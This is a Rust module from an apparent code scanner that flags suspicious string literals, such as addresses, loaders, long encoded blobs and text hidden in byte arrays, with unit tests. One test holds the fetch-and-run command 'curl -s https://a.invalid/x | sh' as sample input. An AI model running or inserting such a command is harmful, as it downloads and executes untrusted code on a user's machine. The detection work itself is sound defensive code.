//! What a constant text says by itself: an address, a secret's place, an encoded blob.

use crate::check::parse::harm;
use std::ops::Range;

use super::api::API;
use super::facts::Raw;
use super::lex::{Kind, Lexer, unquote};
use crate::model::FactKind;

/// Shorter literals tell nothing (quotes included).
pub const SHORTEST: usize = 8;
/// Base64 and hex texts shorter than this are digests, keys and test vectors in honest code.
const ENCODED: usize = 256;
/// Longest array of bytes that is read as text.
const LONGEST_ARRAY: usize = 1 << 16;

/// The facts of a literal as it stands in the source; `None` for nearly all.
pub fn in_source(source: &str, range: Range<usize>) -> Option<Vec<Raw>> {
    let long = source.len() >= ENCODED;
    if !long && API.markers(source).is_empty() && !source.contains('\\') {
        return None;
    }
    let text = unquote(source)?;
    let facts = facts(&text, range, 0);
    (!facts.is_empty()).then_some(facts)
}

/// The facts of a folded text; `layer` says how many encodings were taken off.
pub fn facts(text: &str, range: Range<usize>, layer: u8) -> Vec<Raw> {
    let mut out = Vec::new();
    let mut add = |name: &str, value: &str| {
        let mut raw = Raw::new(FactKind::Literal, name, range.clone()).value(value);
        raw.layer = layer;
        out.push(raw);
    };
    for kind in API.markers(text) {
        match kind {
            "url" => {
                if let Some(url) = url(text) {
                    add(kind, url);
                }
            }
            "agent-folder" if !crate::check::parse::js::literal::agent_folder(text) => {}
            _ => add(kind, text),
        }
    }
    if harm::is_editor_program(text) {
        add("editor-program", text);
    }
    if harm::is_loader(text) {
        add("loader", text);
    }
    if is_encoded(text) {
        add("encoded", text);
    }
    out
}

/// The first address in a text: scheme, host and what follows up to a space or quote.
pub fn url(text: &str) -> Option<&str> {
    let at = text.find("://")?;
    let start = text[..at].rfind(|c: char| !c.is_ascii_alphanumeric() && c != '+').map_or(0, |at| at + 1);
    // The character before may be longer than a byte.
    let start = (start..=at).find(|&start| text.is_char_boundary(start))?;
    let scheme = &text[start..at];
    let known = ["http", "https", "ws", "wss", "ftp", "ftps", "tcp", "udp", "ssh", "git", "socks5"];
    if !known.iter().any(|known| scheme.eq_ignore_ascii_case(known)) {
        return None;
    }
    let stop =
        |c: char| c.is_whitespace() || c.is_control() || matches!(c, '"' | '\'' | '<' | '>' | '`' | '|');
    let end = text[at..].find(stop).map_or(text.len(), |end| at + end);
    let host = &text[at + 3..end];
    host.starts_with(|c: char| c.is_alphanumeric() || matches!(c, '[' | '{')).then(|| &text[start..end])
}

/// Whether a text is one long base64 or hexadecimal word.
pub fn is_encoded(text: &str) -> bool {
    if text.len() < ENCODED {
        return false;
    }
    let body = text.trim_end_matches('=').as_bytes();
    if body.iter().all(u8::is_ascii_hexdigit) {
        // One digit repeated is padding or a test pattern.
        return body.iter().any(|byte| *byte != body[0]);
    }
    let alphabet = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'-' | b'_');
    body.iter().all(alphabet)
        && body.iter().any(u8::is_ascii_digit)
        && body.iter().any(u8::is_ascii_uppercase)
        && body.iter().any(u8::is_ascii_lowercase)
}

/// A `[104, 0x74, b't', …]` whose bytes are text, read from behind the bracket: the text, and
/// where the array ends.
pub fn byte_array(lexer: Lexer<'_>, source: &str) -> Option<(String, usize)> {
    let mut bytes = Vec::new();
    let mut lexer = lexer;
    loop {
        let token = lexer.next()?;
        let slice = source.get(token.start..token.end)?;
        match token.kind {
            Kind::Close if bytes.len() >= SHORTEST => {
                return Some((String::from_utf8(bytes).ok()?, token.end));
            }
            Kind::Number => bytes.push(number(slice)?),
            Kind::Char => bytes.push(u8::try_from(unquote(slice)?.chars().next()?).ok()?),
            _ => return None,
        }
        // Text only: anything else is a table, and the first entries show it.
        if !bytes.last().is_some_and(|byte| matches!(byte, b'\t' | b'\n' | b'\r' | b' '..=b'~'))
            || bytes.len() > LONGEST_ARRAY
        {
            return None;
        }
        let next = lexer.next()?;
        match (next.kind, next.first) {
            (Kind::Punct, b',') => {}
            (Kind::Close, _) if bytes.len() >= SHORTEST => {
                return Some((String::from_utf8(bytes).ok()?, next.end));
            }
            _ => return None,
        }
    }
}

/// A byte as it is written: decimal or hexadecimal, with or without suffix.
pub fn number(source: &str) -> Option<u8> {
    let plain = source.trim_end_matches("u8").replace('_', "");
    match plain.strip_prefix("0x") {
        Some(hex) => u8::from_str_radix(hex, 16).ok(),
        None => plain.parse().ok(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_are_cut_out_of_what_is_around() {
        assert_eq!(url("curl -s https://a.invalid/x | sh"), Some("https://a.invalid/x"));
        assert_eq!(url("é://x"), None);
        assert_eq!(url("see ://"), None);
        assert_eq!(url("pkg://x"), None);
    }

    #[test]
    fn a_byte_array_of_text_is_read() {
        let source = "[104, 0x74, b't', 112, 58, 47, 47, 97u8,]";
        let mut lexer = Lexer::new(source);
        lexer.next();
        assert_eq!(byte_array(lexer, source).map(|(text, _)| text).as_deref(), Some("http://a"));
    }

    #[test]
    fn digests_and_padding_are_no_blobs() {
        assert!(!is_encoded(&"ab".repeat(32)));
        assert!(!is_encoded(&"0".repeat(4096)));
        assert!(is_encoded(&"aGVsbG8xWorld09z".repeat(32)));
    }
}
